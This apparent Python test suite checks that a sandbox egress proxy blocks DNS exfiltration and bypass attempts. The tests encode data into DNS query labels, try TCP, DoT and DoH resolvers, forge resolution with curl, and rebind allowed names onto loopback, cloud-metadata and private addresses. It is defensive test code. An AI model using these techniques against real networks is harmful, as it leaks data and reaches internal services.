"""DNS as a way out: exfiltration through names and record types, other resolvers (TCP, DoT,
DoH), and rebinding an allowed name onto loopback, metadata, RFC1918 or another sandbox."""

from __future__ import annotations

import base64
import os
import secrets
import signal
import threading
import time
from collections.abc import Iterator
from typing import Any

import pytest
from dnslib import HTTPS, DNSRecord
from dnslib.buffer import Buffer

from sandgate.proxy import ProxyControl
from tests.adversarial.conftest import (
    BOUND_HOST,
    EXFIL_ZONE,
    METADATA_ADDR,
    OPEN_HOST,
    PRIVATE_ADDR,
    REBIND_ZONE,
    TEST_RUNTIME,
    Attacker,
    Canaries,
)
from tests.support.internet import DNS_ADDR, ORIGIN_V4

pytestmark = pytest.mark.root
# The dig tests need dig in the sandbox: the local runtime's sandboxes see the host's, the
# Kubernetes Pods' image has it in a layer (conftest.py SANDBOX_TOOLS); sandgate/base (Docker's
# image for `sandgate/host`) has none. The answers they check are the proxy's resolver's, the same
# on every runtime.
NO_DIG = "dig is not in sandgate/base; the proxy's answers are checked on the local and Kubernetes runtimes"

NXDOMAIN, REFUSED = 3, 5


def exfil_names() -> list[str]:
    data = secrets.token_hex(31)  # 62 hex chars: "data" an agent would smuggle out
    return [
        f"{data[:20]}.{EXFIL_ZONE}",
        f"{data}.{data[:40]}.{EXFIL_ZONE}",  # long labels
        ".".join([data[: 63 - 2]] * 3) + f".{EXFIL_ZONE}",  # a name near the 253-byte limit
        f"{data[:16]}.{BOUND_HOST}.{EXFIL_ZONE}",  # an allowed name as a prefix is not the name
    ]


def test_dns_exfiltration_never_leaves_the_proxy(attacker: Attacker) -> None:
    attacker.internet.clear_dns_queries()
    names = exfil_names()
    queries = [
        [name, qtype] for name in names for qtype in ("A", "AAAA", "TXT", "NULL", "ANY", "MX", "HTTPS")
    ]
    results = attacker.attack("dns_many", queries=queries)["results"]
    for result in results:
        assert result["answered"] and result["rcode"] == NXDOMAIN and result["answers"] == 0, result
    # Sent straight at the test internet's resolver: nft turns every port-53 datagram to the proxy.
    direct = attacker.attack("dns", name=names[0], qtype="TXT", server=DNS_ADDR)
    assert direct["rcode"] == NXDOMAIN
    upstream = attacker.internet.dns_queries()
    assert not [q for q in upstream if EXFIL_ZONE in q["name"]], upstream
    records = attacker.wait_audit(
        lambda r: r["kind"] == "dns" and r["host"] == names[0] and "TXT" in r["detail"]
    )
    assert records and all(r["decision"] == "deny" and r["reason"] == "default" for r in records)


def test_other_resolvers_are_unreachable(attacker: Attacker, canaries: Canaries) -> None:
    name = f"{secrets.token_hex(8)}.{EXFIL_ZONE}"
    attacker.internet.clear_dns_queries()
    mark = len(attacker.internet.origin_requests())
    tcp = attacker.attack("dns", name=name, qtype="TXT", server=DNS_ADDR, tcp=True)
    assert not tcp["answered"] or tcp["rcode"] in (NXDOMAIN, REFUSED), tcp
    for server in (DNS_ADDR, PRIVATE_ADDR):  # DNS over TLS: port 853 is just TCP to an IP literal
        dot = attacker.attack("raw", host=server, port=853, sni="dns.example.test", verify=False)
        assert not dot.get("reply"), dot
    doh = attacker.curl(f"'https://dns.example.test/dns-query?name={name}&type=TXT'")
    assert doh.exit_code != 0  # a DoH endpoint is a host like any other: not allowed, not resolved
    doh_by_address = attacker.curl("-k", f"'https://{DNS_ADDR}/dns-query?name={name}'")
    assert doh_by_address.exit_code != 0
    assert not [q for q in attacker.internet.dns_queries() if EXFIL_ZONE in q["name"]]
    assert attacker.origin_requests_since(mark) == []
    assert not [hit for hit in canaries.hits() if hit["local"].endswith(":853")]
    dot_records = attacker.wait_audit(lambda r: r["port"] == 853 and r["sni"] == "dns.example.test")
    assert dot_records and all(r["decision"] == "deny" and r["reason"] == "default" for r in dot_records)


@pytest.mark.parametrize(
    ("label", "address"),
    [
        ("loop", "127.0.0.1"),
        ("meta", METADATA_ADDR),
        ("private", PRIVATE_ADDR),
        ("mapped", "::ffff:a9fe:a9fe"),
    ],
)
def test_rebinding_an_allowed_name_to_internal_addresses(
    attacker: Attacker, canaries: Canaries, label: str, address: str
) -> None:
    name = f"{label}.{REBIND_ZONE}"
    assert attacker.attack("resolve", name=name)["addresses"] == []  # the answer is dropped, not handed over
    for scheme in ("http", "https"):
        result = attacker.curl("-k", "-o /dev/null", "-w '%{http_code}'", f"{scheme}://{name}/")
        assert result.stdout in ("000", "403"), (scheme, result)
        # Forged resolution (curl --resolve): the sandbox dials the internal address itself.
        port = 443 if scheme == "https" else 80
        forged = attacker.curl(
            "-k",
            "-o /dev/null",
            "-w '%{http_code}'",
            f"--resolve {name}:{port}:{ORIGIN_V4}",
            f"{scheme}://{name}/",
        )
        assert forged.stdout in ("000", "403", "502"), (scheme, forged)
    assert canaries.hits() == []
    records = attacker.wait_audit(lambda r: r["host"] == name and r["kind"] in ("request", "connection"))
    assert records and all(r["decision"] == "deny" for r in records), records
    assert {r["reason"] for r in records} == {"always_denied_range"}, records


def test_rebinding_keeps_only_the_public_answers(attacker: Attacker, canaries: Canaries) -> None:
    """A name answering metadata AND a public address: the sandbox and the proxy keep the public one."""
    name = f"mixed.{REBIND_ZONE}"
    assert attacker.attack("resolve", name=name)["addresses"] == [ORIGIN_V4]
    mark = len(attacker.internet.origin_requests())
    assert attacker.curl(f"http://{name}/").stdout.strip() == "hello from origin"
    assert [r["server"] for r in attacker.origin_requests_since(mark)] == [f"{ORIGIN_V4}:80"]
    assert canaries.hits() == []


@pytest.mark.skipif(TEST_RUNTIME == "docker", reason=NO_DIG)
def test_dig_inside_the_sandbox_tells_a_block_from_a_typo(attacker: Attacker) -> None:
    """A real resolver client with the sandbox's own resolver configuration: a denied name is
    NXDOMAIN with Extended DNS Error 15 and sandgate's reason; without EDNS a plain NXDOMAIN."""
    name = f"{secrets.token_hex(8)}.{EXFIL_ZONE}"
    attacker.internet.clear_dns_queries()
    blocked = attacker.sh(f"dig +tries=1 +time=5 TXT {name}")
    assert "status: NXDOMAIN" in blocked.stdout, blocked
    assert "; EDE: 15 (Blocked): (sandgate: egress denied (default))" in blocked.stdout, blocked.stdout
    plain = attacker.sh(f"dig +noedns +tries=1 +time=5 A {name}")
    assert "status: NXDOMAIN" in plain.stdout and "EDE" not in plain.stdout, plain
    allowed = attacker.sh(f"dig +short +tries=1 +time=5 A {OPEN_HOST}")
    assert allowed.stdout.split() == [ORIGIN_V4], allowed
    assert not [q for q in attacker.internet.dns_queries() if EXFIL_ZONE in q["name"]]


# ------------------------------------------------------------------------------ SVCB/HTTPS, ANY

ECH_CONFIG = base64.b64encode(b"\xfe\x0d\x00\x41" + bytes(range(65))).decode()  # any bytes: never relayed
HINTED = f"hints.{REBIND_ZONE}"
SVCB_NAME = f"_dns.svcb.{REBIND_ZONE}"
ALIASED = f"alias.{REBIND_ZONE}"
ANY_NAME = f"any.{REBIND_ZONE}"


def generic(name: str, rtype: str, zone: str) -> str:
    """A zone line for `rtype` (SVCB: dnslib knows no text form) in RFC 3597's generic form,
    the RDATA packed by dnslib's HTTPS class (one wire format for both types)."""
    buffer = Buffer()
    HTTPS.fromZone(zone.split()).pack(buffer)
    return f"{name}. 5 IN {rtype} \\# {len(buffer.data)} {bytes(buffer.data).hex()}"


SVCB_RECORDS = [
    f"{HINTED}. 5 IN HTTPS 1 . alpn=h2 ipv4hint={METADATA_ADDR},127.0.0.1,{ORIGIN_V4} "
    f"echconfig={ECH_CONFIG} ipv6hint=::1,::ffff:a9fe:a9fe",  # keys in increasing order (RFC 9460)
    generic(
        SVCB_NAME, "SVCB", f"1 . alpn=dot port=853 ipv4hint={PRIVATE_ADDR} echconfig={ECH_CONFIG} key65000=x"
    ),
    f"{ALIASED}. 5 IN HTTPS 0 metadata.{EXFIL_ZONE}.",
    f"{ANY_NAME}. 5 IN A {METADATA_ADDR}",
    f"{ANY_NAME}. 5 IN A {ORIGIN_V4}",
    f'{ANY_NAME}. 5 IN TXT "any-text"',
]


@pytest.fixture
def svcb_zone(attacker: Attacker) -> Iterator[None]:
    attacker.internet.set_records(SVCB_RECORDS)
    try:
        yield
    finally:
        attacker.internet.set_records([])


def upstream_answer(name: str, qtype: str) -> list[str]:
    """What the test internet's resolver itself answers (asked from the test, not the sandbox)."""
    reply = DNSRecord.parse(DNSRecord.question(name, qtype).send(DNS_ADDR, 53, timeout=5))
    return [rr.rdata.toZone() for rr in reply.rr]


@pytest.mark.skipif(TEST_RUNTIME == "docker", reason=NO_DIG)
def test_svcb_and_https_answers_hold_no_refused_hint_no_ech_and_no_foreign_target(
    attacker: Attacker, canaries: Canaries, svcb_zone: None
) -> None:
    """dig inside the sandbox (a real resolver client, through the sandbox's own resolver) gets
    the records with metadata, loopback and RFC1918 hints, the ECH config, an unknown key and a
    target outside the policy taken out, while upstream answers them whole."""
    upstream = upstream_answer(HINTED, "HTTPS")
    assert METADATA_ADDR in upstream[0] and "echconfig=" in upstream[0], upstream  # not vacuous
    assert upstream_answer(SVCB_NAME, "SVCB") != []

    def dig(qtype: str, name: str) -> list[str]:
        # one marked line per record: the command's output comes back without its line breaks
        result = attacker.sh(f"dig +noall +answer +tries=1 +time=5 {qtype} {name} | sed 's/$/<EOL>/'")
        assert result.exit_code == 0, result
        return [" ".join(line.split()[3:]) for line in result.stdout.split("<EOL>") if line.strip()]

    assert dig("HTTPS", HINTED) == [f'HTTPS 1 . alpn="h2" ipv4hint={ORIGIN_V4}']
    assert dig("SVCB", SVCB_NAME) == ['SVCB 1 . alpn="dot" port=853']
    assert dig("HTTPS", ALIASED) == []  # the alias to a name the policy would not resolve is dropped
    assert dig("ANY", ANY_NAME) == [f"A {ORIGIN_V4}", 'TXT "any-text"']  # metadata A in an ANY answer
    received = attacker.sh(f"dig +tries=1 +time=5 HTTPS {HINTED}").stdout
    for gone in (METADATA_ADDR, "127.0.0.1", "::1", "ech=", "a9fe"):
        assert gone not in received, (gone, received)
    assert canaries.hits() == []
    records = attacker.wait_audit(
        lambda r: r["kind"] == "dns" and r["host"] == HINTED and "removed:" in r["detail"]
    )
    assert records and records[-1]["decision"] == "allow", records
    detail = records[-1]["detail"]
    assert f"ipv4hint {METADATA_ADDR}" in detail and "ipv6hint ::1" in detail and "ech" in detail, detail
    aliased = attacker.wait_audit(lambda r: r["kind"] == "dns" and r["host"] == ALIASED)
    assert aliased and f"target metadata.{EXFIL_ZONE} (not allowed) dropped" in aliased[-1]["detail"]


def test_dns_answers_while_the_worker_that_served_it_restarts(attacker: Attacker) -> None:
    """Worker 0 alone served DNS: while it restarted, every lookup failed. The pool serves DNS
    now: a query every 50 ms from inside the sandbox is answered all through worker 0's death and
    return. The pool's `/health` only times the window; the answers are the sandbox's."""
    control = ProxyControl(attacker.server.state_dir / "proxy.sock")

    def worker_zero() -> dict[str, Any]:
        return next(worker for worker in control.health()["workers"] if worker["index"] == 0)

    stop_file = "/workspace/dns-loop.stop"
    attacker.sh(f"rm -f {stop_file}")
    mark = {record["id"] for record in attacker.audit()}
    outcome: dict[str, Any] = {}
    loop = threading.Thread(
        target=lambda: outcome.update(
            attacker.attack("dns_loop", name=BOUND_HOST, gap=0.05, stop_file=stop_file)
        )
    )
    loop.start()
    try:
        assert attacker.wait_audit(
            lambda r: r["kind"] == "dns" and r["host"] == BOUND_HOST and r["id"] not in mark, timeout=40
        ), "the loop's queries never reached the proxy"
        victim = worker_zero()
        assert victim["serving"] and victim["pid"], victim
        killed_at = time.time()
        os.kill(victim["pid"], signal.SIGKILL)  # by PID: worker 0 of this server's pool
        deadline = time.monotonic() + 40
        while not ((now := worker_zero())["serving"] and now["pid"] != victim["pid"]):
            assert time.monotonic() < deadline, f"worker 0 did not come back: {now}"
            time.sleep(0.05)
        back_at = time.time()
    finally:
        attacker.sandbox.files.write_file(stop_file, "stop")
        loop.join(90)
        control.close()
    queries = outcome["queries"]
    down = [query for query in queries if killed_at < query["t"] < back_at]
    assert down, f"no query was sent while worker 0 was down ({killed_at}..{back_at})"
    assert all(query["answered"] and query["rcode"] == 0 for query in down), down
